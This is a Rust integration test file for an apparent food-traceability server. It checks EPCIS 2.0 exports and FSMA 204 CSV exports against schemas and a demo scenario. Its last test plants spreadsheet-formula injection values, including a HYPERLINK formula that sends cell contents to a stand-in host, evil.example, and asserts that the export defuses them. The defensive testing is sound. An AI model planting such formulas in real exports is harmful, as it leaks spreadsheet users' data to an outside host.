//! Exports against the real server with the demo scenario loaded: a lot's history and a query
//! page as EPCIS 2.0 `EPCISDocument`s (checked against GS1's own schema and against the
//! provenance bundle's entries), and the FSMA 204 CSV of a lot, an operator's period and a
//! period (parsed back with an RFC 4180 reader).

use std::collections::HashMap;

use crate::support::{Server, enc, post_json};
use lotline_scenario::{self as scenario, items, lgtin, sgtin};
use serde_json::{Value, json};

const GS1_SCHEMA: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../shared/vectors/epcis/EPCIS-JSON-Schema.json"
);
const CONTAINER: &str = "urn:epc:id:sscc:8841234.9000000001";
const MILL: &str = "urn:epc:id:pgln:8841234.00031";
const IMPORTER: &str = "urn:epc:id:pgln:8712345.00001";

fn demo() -> (Server, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let (registrar, steps) =
        lotline::cli::actor::signed_demo("export test", "2026-11-20T00:00:00Z").unwrap();
    let server = Server::start_with(&dir.path().join("data"), &["--registrar", &registrar]);
    for (doc, expect) in &steps {
        let a = post_json(&server.url("/v1/events"), doc);
        if expect.is_none() {
            assert_eq!(a.status, 201, "{}", a.body);
        }
    }
    (server, dir)
}

fn bag() -> String {
    sgtin(items::HEAD_RICE_BAG_50KG, 1001)
}

fn chips() -> String {
    lgtin(items::CASSAVA_CHIPS, "KC26-C1")
}

/// An answer with its headers.
struct Got {
    status: u16,
    headers: HashMap<String, String>,
    body: String,
}

impl Got {
    fn header(&self, name: &str) -> &str {
        self.headers
            .get(&name.to_ascii_lowercase())
            .map_or("", String::as_str)
    }
    fn json(&self) -> Value {
        serde_json::from_str(&self.body).unwrap_or_else(|e| panic!("{e}: {}", self.body))
    }
    /// Asserts an RFC 9457 problem.
    fn problem(&self, status: u16, code: &str) {
        assert_eq!(self.status, status, "{}", self.body);
        assert_eq!(self.header("content-type"), "application/problem+json");
        let p = self.json();
        assert_eq!(p["code"], code, "{}", self.body);
        assert!(!p["detail"].as_str().unwrap_or("").is_empty());
    }
}

fn fetch(url: &str) -> Got {
    let r = match ureq::get(url).call() {
        Ok(r) => r,
        Err(ureq::Error::Status(_, r)) => r,
        Err(e) => panic!("{url}: {e}"),
    };
    let headers = r
        .headers_names()
        .into_iter()
        .map(|n| {
            let v = r.header(&n).unwrap_or_default().to_owned();
            (n.to_ascii_lowercase(), v)
        })
        .collect();
    Got {
        status: r.status(),
        headers,
        body: r.into_string().unwrap(),
    }
}

/// GS1's EPCIS 2.0 schema (draft-07, formats asserted), read from the shared vectors.
fn gs1_validator() -> jsonschema::Validator {
    let text = std::fs::read_to_string(GS1_SCHEMA).unwrap_or_else(|e| panic!("{GS1_SCHEMA}: {e}"));
    let schema: Value = serde_json::from_str(&text).expect("GS1's schema is JSON");
    jsonschema::options()
        .with_draft(jsonschema::Draft::Draft7)
        .should_validate_formats(true)
        .offline()
        .build(&schema)
        .expect("GS1's EPCIS schema compiles")
}

fn assert_gs1_valid(v: &jsonschema::Validator, doc: &Value) {
    let errors: Vec<String> = v
        .iter_errors(doc)
        .take(5)
        .map(|e| format!("at {:?}: {e}", e.instance_path().as_str()))
        .collect();
    assert!(errors.is_empty(), "not valid EPCIS 2.0: {errors:?}");
}

/// The eventIDs of an `EPCISDocument` or an `EPCISQueryDocument`.
fn event_ids(doc: &Value) -> Vec<String> {
    let body = &doc["epcisBody"];
    let list = if doc["type"] == "EPCISQueryDocument" {
        &body["queryResults"]["resultsBody"]["eventList"]
    } else {
        &body["eventList"]
    };
    list.as_array()
        .expect("an eventList")
        .iter()
        .map(|e| e["eventID"].as_str().unwrap().to_owned())
        .collect()
}

/// Asserts a download: its content type and a `Content-Disposition` attachment whose file name
/// starts and ends as given.
fn assert_download(g: &Got, content_type: &str, prefix: &str, suffix: &str) {
    assert_eq!(g.status, 200, "{}", g.body);
    assert_eq!(g.header("content-type"), content_type);
    let cd = g.header("content-disposition");
    let name = cd
        .strip_prefix("attachment; filename=\"")
        .and_then(|n| n.strip_suffix('"'))
        .unwrap_or_else(|| panic!("Content-Disposition {cd:?}"));
    assert!(
        name.starts_with(prefix) && name.ends_with(suffix),
        "file name {name:?}"
    );
    assert!(
        name.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b)),
        "{name:?}"
    );
}

#[test]
fn a_lots_history_as_an_epcis_document_is_valid_and_is_its_bundles_events() {
    let (server, _dir) = demo();
    let gs1 = gs1_validator();
    for id in [bag(), CONTAINER.to_owned(), chips()] {
        let g = fetch(&server.url(&format!("/v1/lots/{}/epcis", enc(&id))));
        assert_download(&g, "application/ld+json", "epcis-urn_epc_", ".jsonld");
        let doc = g.json();
        assert_gs1_valid(&gs1, &doc);
        assert_eq!(doc["type"], "EPCISDocument");
        assert_eq!(doc["schemaVersion"], "2.0");
        assert!(
            lotline_profile::profile::parse_time_ms(doc["creationDate"].as_str().unwrap())
                .is_some()
        );
        assert_eq!(doc["lotline:subject"], json!(id));

        // Exactly the bundle's EPCIS events, in log order, as signed but for the proof.
        let bundle = fetch(&server.url(&format!("/v1/lots/{}/bundle", enc(&id)))).json();
        let signed: Vec<&Value> = bundle["entries"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| &e["entry"])
            .filter(|e| !e["event"]["type"].as_str().unwrap().starts_with("lotline:"))
            .collect();
        assert!(signed.len() >= 4, "{id}: {} events", signed.len());
        let events = doc["epcisBody"]["eventList"].as_array().unwrap();
        assert_eq!(events.len(), signed.len(), "{id}");
        for (i, (e, s)) in events.iter().zip(&signed).enumerate() {
            let mut without = s["event"].clone();
            assert!(without.as_object_mut().unwrap().remove("proof").is_some());
            assert_eq!(e, &without, "{id}: event {i}");
            assert_eq!(doc["lotline:entries"][i]["index"], s["index"]);
            assert_eq!(doc["lotline:entries"][i]["signer"], s["signer"]);
            assert_eq!(doc["lotline:entries"][i]["recordTime"], s["recordTime"]);
        }
        let indexes: Vec<u64> = signed
            .iter()
            .map(|s| s["index"].as_u64().unwrap())
            .collect();
        assert!(indexes.windows(2).all(|w| w[0] < w[1]), "log order");
    }

    // Master data names the parties and lot classes the events only identify.
    let doc = fetch(&server.url(&format!("/v1/lots/{CONTAINER}/epcis"))).json();
    let vocab = doc["epcisHeader"]["epcisMasterData"]["vocabularyList"]
        .as_array()
        .unwrap();
    let elements = |ty: &str| -> Vec<Value> {
        vocab
            .iter()
            .find(|v| v["type"] == ty)
            .unwrap_or_else(|| panic!("no {ty} vocabulary"))["vocabularyElementList"]
            .as_array()
            .unwrap()
            .clone()
    };
    let parties = elements("urn:epcglobal:epcis:vtype:Party");
    let importer = parties.iter().find(|p| p["id"] == IMPORTER).unwrap();
    assert!(importer["attributes"].as_array().unwrap().contains(
        &json!({"id": "urn:epcglobal:cbv:mda#name", "attribute": "Rotterdam Rice Import B.V."})
    ));
    assert_eq!(
        parties.len(),
        7,
        "3 farms, collector, mill, exporter, importer"
    );
    let classes = elements("urn:epcglobal:epcis:vtype:EPCClass");
    let head = classes
        .iter()
        .find(|c| c["id"] == lgtin(items::HEAD_RICE, "BB26-1020"))
        .unwrap();
    assert!(head["attributes"].as_array().unwrap().contains(
        &json!({"id": "urn:epcglobal:cbv:mda#descriptionShort", "attribute": "head-rice"})
    ));

    // Errors are problems.
    let missing = sgtin(items::HEAD_RICE_BAG_50KG, 999_999);
    fetch(&server.url(&format!("/v1/lots/{missing}/epcis"))).problem(404, "not_found");
    fetch(&server.url("/v1/lots/not-an-epc/epcis")).problem(400, "invalid_parameter");
}

/// Follows the `Link: <…>; rel="next"` header.
fn next_link(g: &Got) -> Option<String> {
    let l = g.header("link");
    (!l.is_empty()).then(|| {
        l.strip_prefix('<')
            .and_then(|l| l.split_once('>'))
            .map(|(u, _)| u.to_owned())
            .unwrap_or_else(|| panic!("Link {l:?}"))
    })
}

#[test]
fn a_query_page_as_an_epcis_document_keeps_the_querys_paging() {
    let (server, _dir) = demo();
    let gs1 = gs1_validator();
    let all = fetch(&server.url("/v1/events?EQ_bizStep=shipping&perPage=1000")).json();
    let expected = event_ids(&all);
    assert_eq!(expected.len(), 7, "the demo's shipments");

    let mut url = server.url("/v1/events?EQ_bizStep=shipping&perPage=3&format=EPCISDocument");
    let mut got = Vec::new();
    let mut pages = 0;
    loop {
        let g = fetch(&url);
        assert_download(&g, "application/ld+json", "epcis-events-", ".jsonld");
        let doc = g.json();
        assert_gs1_valid(&gs1, &doc);
        assert_eq!(doc["type"], "EPCISDocument");
        pages += 1;
        got.extend(event_ids(&doc));
        match next_link(&g) {
            Some(next) => {
                assert!(next.contains("format=EPCISDocument"), "{next}");
                assert_eq!(
                    doc["lotline:nextPage"],
                    json!(next),
                    "the file knows it too"
                );
                assert_eq!(
                    doc["lotline:nextPageToken"],
                    json!(g.header("gs1-next-page-token"))
                );
                url = server.url(&next);
            }
            None => {
                assert!(doc.get("lotline:nextPage").is_none());
                break;
            }
        }
    }
    assert_eq!(got, expected);
    assert!(pages >= 3, "{pages} pages");

    // Unfiltered, the log starts with registrar documents: they are skipped, and the page is
    // still full of EPCIS events.
    let g = fetch(&server.url("/v1/events?perPage=5&format=EPCISDocument"));
    let doc = g.json();
    assert_gs1_valid(&gs1, &doc);
    let events = doc["epcisBody"]["eventList"].as_array().unwrap();
    assert_eq!(events.len(), 5);
    assert!(
        events
            .iter()
            .all(|e| !e["type"].as_str().unwrap().starts_with("lotline:"))
    );
    // By EPC too.
    let g = fetch(&server.url(&format!("/v1/epcs/{CONTAINER}/events?format=EPCISDocument")));
    assert_download(&g, "application/ld+json", "epcis-events-", ".jsonld");
    assert_gs1_valid(&gs1, &g.json());
    assert_eq!(
        event_ids(&g.json()).len(),
        5,
        "packed, documented, shipped, received"
    );

    fetch(&server.url("/v1/events?format=csv")).problem(400, "invalid_parameter");
    // The plain query still answers an EPCISQueryDocument.
    let q = fetch(&server.url("/v1/events?perPage=1&format=EPCISQueryDocument"));
    assert_eq!(q.json()["type"], "EPCISQueryDocument");
}

/// A minimal RFC 4180 reader: records of fields, quoted fields with doubled quotes, CRLF.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut out = vec![];
    let mut rec = vec![];
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => {
                assert!(field.is_empty(), "a quote inside an unquoted field");
                quoted = true;
            }
            (false, ',') => rec.push(std::mem::take(&mut field)),
            (false, '\r') => {
                assert_eq!(chars.next(), Some('\n'), "CR without LF");
                rec.push(std::mem::take(&mut field));
                out.push(std::mem::take(&mut rec));
            }
            (false, '\n') => panic!("a bare LF ends a record"),
            (false, c) => field.push(c),
        }
    }
    assert!(
        !quoted && field.is_empty() && rec.is_empty(),
        "the last record ends in CRLF"
    );
    out
}

/// A parsed CSV export: header and rows as maps by column name.
struct Sheet {
    header: Vec<String>,
    rows: Vec<HashMap<String, String>>,
}

fn sheet(g: &Got) -> Sheet {
    let body = g
        .body
        .strip_prefix('\u{feff}')
        .expect("a UTF-8 byte order mark");
    let mut records = parse_csv(body);
    let header = records.remove(0);
    for r in &records {
        assert_eq!(r.len(), header.len(), "{r:?}");
    }
    let rows = records
        .into_iter()
        .map(|r| header.iter().cloned().zip(r).collect())
        .collect();
    Sheet { header, rows }
}

impl Sheet {
    fn col(&self, name: &str) -> Vec<&str> {
        assert!(self.header.iter().any(|h| h == name), "no column {name}");
        self.rows.iter().map(|r| r[name].as_str()).collect()
    }
    /// Rows sorted by (event time, entry index), the file's documented order.
    fn assert_sorted(&self) {
        let keys: Vec<(String, u64)> = self
            .rows
            .iter()
            .map(|r| {
                (
                    r["Event Time (UTC)"].clone(),
                    r["Ledger Entry Index"].parse().unwrap(),
                )
            })
            .collect();
        assert!(
            keys.windows(2).all(|w| w[0] <= w[1]),
            "not sorted: {keys:?}"
        );
    }
}

/// An FSMA export, with a registrar's audit token (the lot export needs none).
fn fsma(server: &Server, query: &str) -> Got {
    let registrar = scenario::seeded_key("export test registrar");
    let token = crate::support::audit_token(server, &registrar);
    let sep = if query.is_empty() { "" } else { "&" };
    fetch(&server.url(&format!(
        "/v1/export/fsma204.csv?{query}{sep}access_token={token}"
    )))
}

#[test]
fn fsma_204_csv_of_a_lot_has_its_key_data_elements() {
    let (server, _dir) = demo();
    let g = fsma(&server, &format!("lot={}", chips()));
    assert_download(
        &g,
        "text/csv; charset=utf-8",
        "fsma204-urn_epc_class_lgtin_",
        ".csv",
    );
    let s = sheet(&g);
    assert_eq!(s.header.len(), 33);
    for c in [
        "Traceability Lot Code",
        "Product Description",
        "Quantity",
        "Unit of Measure",
        "Critical Tracking Event",
        "Event Time (UTC)",
        "Ship-From Name",
        "Ship-To GLN",
        "Traceability Lot Code Source ID",
        "Reference Document Number",
        "Event ID",
        "Ledger Entry Index",
        "Signer",
    ] {
        assert!(s.header.iter().any(|h| h == c), "{c} missing");
    }
    // Harvest, shipment, receipt of the roots, then the chipping: roots in, chips out.
    let roots = lgtin(items::CASSAVA_ROOTS, "KC26-D1");
    assert_eq!(
        s.col("Traceability Lot Code"),
        [&roots, &roots, &roots, &roots, &chips()]
    );
    assert_eq!(
        s.col("Critical Tracking Event"),
        [
            "Harvesting",
            "Shipping",
            "Receiving",
            "Transformation",
            "Transformation"
        ]
    );
    assert_eq!(
        s.col("Lot Role"),
        ["harvested", "shipped", "received", "input", "output"]
    );
    assert_eq!(
        s.col("Quantity"),
        ["24000", "24000", "24000", "24000", "9600"]
    );
    assert_eq!(s.col("Unit of Measure"), ["KGM"; 5]);
    assert_eq!(
        s.col("Net Mass (kg)"),
        ["24000", "24000", "24000", "24000", "9600"]
    );
    assert_eq!(s.col("Product Description")[4], "cassava-chips (cassava)");
    assert_eq!(s.col("Growing Method"), ["conventional"; 5]);
    assert_eq!(s.col("Ship-From Name")[1], "Farm of Chan Dara");
    assert_eq!(s.col("Ship-To Name")[1], "Kampong Cham Cassava Chips");
    assert_eq!(s.col("Location Name")[0], "Farm of Chan Dara");
    assert_eq!(s.col("Growing Area")[0], "KC-CD-01, Kampong Cham");
    assert_eq!(
        s.col("Traceability Lot Code Source Name")[4],
        "Kampong Cham Cassava Chips"
    );
    assert_eq!(s.col("Event Time (UTC)")[0], "2026-11-01 23:30:00");
    assert_eq!(s.col("Event Time (Local)")[0], "2026-11-02T06:30:00+07:00");
    assert_eq!(s.col("Time Zone")[0], "UTC+07:00");
    assert!(s.col("Record Status").iter().all(|c| *c == "recorded"));
    s.assert_sorted();
    // Deterministic: the same bytes again.
    assert_eq!(fsma(&server, &format!("lot={}", chips())).body, g.body);

    // A paddy lot: its harvest and first shipment alone, then the collector's shipment, the
    // mill's receipt (three lots each), its moisture check and the milling (three in, four
    // out).
    let paddy = lgtin(items::PADDY, "PV26-F1");
    let s = sheet(&fsma(&server, &format!("lot={paddy}")));
    assert_eq!(s.rows.len(), 1 + 1 + 1 + 3 + 3 + 1 + 7);
    assert_eq!(
        s.rows
            .iter()
            .filter(|r| r["Critical Tracking Event"] == "Inspection")
            .count(),
        1
    );
    s.assert_sorted();
    let mine: Vec<&HashMap<String, String>> = s
        .rows
        .iter()
        .filter(|r| r["Traceability Lot Code"] == paddy)
        .collect();
    assert_eq!(mine.len(), 7);
    assert!(
        mine.iter()
            .all(|r| r["Quantity"] == "5200" && r["Unit of Measure"] == "KGM")
    );

    // A bag: the container it left in weighs the 150 bags packed in it.
    let s = sheet(&fsma(&server, &format!("lot={}", bag())));
    s.assert_sorted();
    let shipped: Vec<&HashMap<String, String>> = s
        .rows
        .iter()
        .filter(|r| r["Traceability Lot Code"] == CONTAINER && r["Lot Role"] == "shipped")
        .collect();
    assert_eq!(shipped.len(), 1);
    assert_eq!(
        (
            shipped[0]["Quantity"].as_str(),
            shipped[0]["Unit of Measure"].as_str(),
            shipped[0]["Net Mass (kg)"].as_str()
        ),
        ("1", "EA", "7500")
    );
    assert_eq!(shipped[0]["Ship-To ID"], IMPORTER);
    let docs: Vec<&HashMap<String, String>> = s
        .rows
        .iter()
        .filter(|r| r["Critical Tracking Event"] == "Business Transaction")
        .collect();
    assert_eq!(docs.len(), 1);
    assert_eq!(
        docs[0]["Reference Document Type"],
        "inv; lotline:export_declaration"
    );
    assert!(docs[0]["Reference Document Number"].contains("INV-2026-0415"));
    // The lot export is public and may be cached like provenance.
    assert_ne!(g.header("cache-control"), "no-store");
}

#[test]
fn fsma_204_audit_exports_of_an_operator_and_a_period() {
    let (server, _dir) = demo();
    let g = fsma(
        &server,
        &format!("operator={MILL}&from=2026-10-01&to=2026-11-01"),
    );
    assert_download(
        &g,
        "text/csv; charset=utf-8",
        "fsma204-urn_epc_id_pgln_",
        ".csv",
    );
    assert_eq!(g.header("cache-control"), "no-store");
    let s = sheet(&g);
    // Receiving three paddy lots, their moisture checks, milling (3 in, 4 out), bagging (1 in,
    // 150 out), shipping the 150 bags.
    assert_eq!(s.rows.len(), 3 + 3 + 7 + 151 + 150);
    assert!(s.col("Location ID").iter().all(|l| *l == MILL));
    s.assert_sorted();
    // The period ends before the bags were shipped (2026-10-23T23:00Z).
    let s = sheet(&fsma(
        &server,
        &format!("operator={}&from=2026-10-01&to=2026-10-23", enc(MILL)),
    ));
    assert_eq!(s.rows.len(), 3 + 3 + 7 + 151);

    // Every event of the demo; the registrations fall inside the second range but are not
    // supply-chain events.
    for range in [
        "from=2026-10-01&to=2026-12-01",
        "from=2026-01-01&to=2027-01-01",
    ] {
        let s = sheet(&fsma(&server, range));
        assert_eq!(s.rows.len(), 642, "{range}");
        s.assert_sorted();
    }
    let s = sheet(&fsma(&server, "from=2026-10-26&to=2026-10-27"));
    assert_eq!(s.rows.len(), 3 * 51, "three pallets of 50 bags");
    assert!(
        s.col("Critical Tracking Event")
            .iter()
            .all(|c| *c == "Packing")
    );
    let s = sheet(&fsma(
        &server,
        "from=2026-10-26T10:00:00%2B07:00&to=2026-10-26T10:00:00.001%2B07:00",
    ));
    assert_eq!(s.rows.len(), 3 * 51, "date-times, to exclusive");

    // Parameter errors are problems, and no export is made.
    for q in [
        format!("lot={CONTAINER}&operator={MILL}"),
        format!("lot={CONTAINER}&from=2026-10-01&to=2026-11-01"),
        "from=2026-11-01&to=2026-10-01".to_owned(),
        "from=2026-10-01&to=2026-10-01".to_owned(),
        "from=2026-10-01".to_owned(),
        "to=2026-10-01".to_owned(),
        format!("operator={MILL}"),
        String::new(),
        "from=2026-02-30&to=2026-10-01".to_owned(),
        "from=01%2F10%2F2026&to=2026-11-01".to_owned(),
        "lot=not-an-epc".to_owned(),
        "from=2026-10-01&to=2026-11-01&format=xlsx".to_owned(),
    ] {
        let g = fsma(&server, &q);
        g.problem(400, "invalid_parameter");
        assert!(g.header("content-disposition").is_empty(), "{q}");
    }
    fsma(
        &server,
        "operator=urn:epc:id:pgln:8841234.99999&from=2026-10-01&to=2026-11-01",
    )
    .problem(404, "not_found");
    fsma(
        &server,
        &format!("lot={}", sgtin(items::HEAD_RICE_BAG_50KG, 999_999)),
    )
    .problem(404, "not_found");
}

#[test]
fn spreadsheet_formulas_in_signed_values_are_defused() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("data"));
    // Registered names and provinces are free text, signed by the registrar but written by
    // whoever asked for the registration.
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    let farm = scenario::pgln(777);
    let key = crate::support::key();
    let reg = scenario::register(
        None,
        crate::support::REGISTERED,
        &farm,
        evil,
        ("KH", "@SUM(1+1)"),
        &["farm"],
        &[scenario::did(&key)],
        None,
    );
    assert_eq!(server.submit(&server.registrar, &reg).status, 201);
    let lot = lgtin(items::PADDY, "EVIL-1");
    let h = scenario::harvest(
        None,
        "2026-06-01T08:00:00-05:00",
        &lot,
        1000.0,
        &farm,
        "rice",
        None,
        scenario::plot("-1", "+Province", 1.0, 104.9, 13.8),
        "organic",
    );
    let a = server.submit(&key, &h);
    assert_eq!(a.status, 201, "{}", a.body);

    let g = fsma(&server, &format!("lot={lot}"));
    assert_eq!(g.status, 200, "{}", g.body);
    // The raw text: the formula is quoted and starts with an apostrophe inside the quotes.
    assert!(
        g.body
            .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\""),
        "{}",
        g.body
    );
    let s = sheet(&g);
    assert_eq!(s.rows.len(), 1);
    let r = &s.rows[0];
    assert_eq!(r["Location Name"], format!("'{evil}"));
    assert_eq!(r["Traceability Lot Code Source Name"], format!("'{evil}"));
    assert_eq!(r["Location Region"], "'@SUM(1+1), KH");
    assert_eq!(r["Growing Area"], "'-1, +Province");
    assert_eq!(r["Time Zone"], "UTC-05:00");
    // No cell of any row starts with a character a spreadsheet would evaluate.
    for row in &s.rows {
        for (k, v) in row {
            assert!(
                !v.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{k}: {v:?}"
            );
        }
    }
}
